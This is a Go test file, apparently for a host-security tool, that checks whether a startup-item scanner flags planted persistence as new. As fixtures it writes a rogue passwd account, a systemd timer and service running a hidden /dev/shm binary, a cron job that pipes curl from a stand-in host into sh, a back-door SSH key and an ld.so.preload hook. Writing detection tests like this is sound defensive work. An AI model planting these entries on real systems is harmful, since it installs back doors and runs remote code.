// SPDX-License-Identifier: Apache-2.0

//go:build linux

package know

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"sentinel/internal/testenv"
	"sentinel/test/assistant"
)

// plant writes a file of this machine's copy.
func plant(t *testing.T, path, content string) {
	t.Helper()
	testenv.RequireIsolated(t)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	put(t, path, content)
}

// What somebody has planted comes first, whatever else starts on the machine that the test runs on.
func TestAnAssistantFindsWhatWasPlanted(t *testing.T) {
	t.Parallel()
	if !onMachine(t) {
		return
	}
	passwd, err := os.ReadFile("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	plant(t, "/etc/passwd", string(passwd)+"eve:x:42424:42424::/var/lib/eve:/bin/bash\n")
	os.Remove("/var/lib/sentinel/startup.json") // of the machine below
	s := connect(t, "--toolsets", "all")
	if d := s.Call("", "get_startup_items", map[string]any{}); d["first_run"] != true || d.Number("items_total") == 0 || d["new_total"] != nil {
		t.Errorf("the first run: %v", d)
	}
	plant(t, "/etc/systemd/system/beat.timer", "[Timer]\nOnCalendar=*:0/5\n[Install]\nWantedBy=timers.target\n")
	plant(t, "/etc/systemd/system/beat.service", "[Service]\nExecStart=/dev/shm/.beat --token=hunter2\n")
	if err := os.MkdirAll("/etc/systemd/system/timers.target.wants", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/systemd/system/beat.timer", "/etc/systemd/system/timers.target.wants/beat.timer"); err != nil {
		t.Fatal(err)
	}
	plant(t, "/etc/cron.d/beat", "*/5 * * * * nobodyknows curl -s http://192.0.2.1/?token=hunter2 | sh\n")
	plant(t, "/var/lib/eve/.ssh/authorized_keys", `command="/dev/shm/.beat",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAxmvsyLsJtiPBuiW15t0F9skL084qRAejT6fXk5tFBe back door`+"\n")
	plant(t, "/etc/ld.so.preload", "/var/lib/eve/hook.so\n")
	t.Cleanup(func() { os.Remove("/etc/ld.so.preload") })
	d := s.Call("", "get_startup_items", map[string]any{})
	if d.Number("new_total") != 5 || d.Number("changed_total") != 0 || d["truncated"] != false && len(d.Rows("items")) < 5 {
		t.Fatalf("the second run: %v", d)
	}
	found := map[string]assistant.Document{}
	for _, row := range d.Rows("items")[:5] {
		if row.Text("status") != "new" {
			t.Errorf("not new: %v", row)
		}
		found[row.Text("kind")] = row
	}
	for kind, want := range map[string]struct{ file, program, warning string }{
		"preloaded_library": {"/etc/ld.so.preload", "/var/lib/eve/hook.so", "program_missing"},
		"timer_unit":        {"/etc/systemd/system/beat.timer", "/dev/shm/.beat", "program_in_tmp"},
		"service_unit":      {"/etc/systemd/system/beat.service", "/dev/shm/.beat", "program_in_tmp"},
		"cron_job":          {"/etc/cron.d/beat", "", "user_missing"},
		"authorized_key":    {"/var/lib/eve/.ssh/authorized_keys", "/dev/shm/.beat", "forced_command"},
	} {
		row := found[kind]
		if row.Text("file") != want.file || want.program != "" && !slices.Contains(row.Texts("programs"), want.program) || !slices.Contains(row.Texts("warnings"), want.warning) {
			t.Errorf("%s: %v", kind, row)
		}
	}
}
